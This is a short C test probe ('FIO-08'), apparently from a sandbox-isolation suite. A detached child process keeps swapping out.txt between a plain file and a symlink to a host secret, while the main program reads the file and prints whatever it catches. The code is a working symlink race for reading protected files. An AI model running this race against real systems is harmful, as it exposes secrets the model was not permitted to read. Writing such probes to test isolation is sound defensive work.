#define ID "FIO-08"
#include "probe.h"
// A child swaps out.txt between a file and a link to the host's secret while the program reads it,
// and continues when the program has ended. On a loaded machine the child starts late: the program
// reads until it has seen the secret, or the link 50 times.
int main(int c, char **v) { int f; char b[64]; if (!fork()) { setsid(); close(1); close(2); for (int i = 0; i < 8000; i++) { symlink(v[1], "l"); rename("l", "out.txt"); if (i > 500) usleep(50); close(open("p", O_CREAT | O_WRONLY, 0600)); rename("p", "out.txt"); if (i > 500) usleep(50); } _exit(0); }
	int seen = 0, links = 0, n; for (int i = 0; i < 200 || (!seen && links < 50 && i < 8000); i++) { links += readlink("out.txt", b, sizeof b) > 0; f = open("out.txt", O_RDONLY); if (f >= 0 && (n = read(f, b, 63)) > 0 && !seen++) { b[n] = 0; puts(b); } if (f >= 0) close(f); usleep(500); } puts("done"); return 0; }
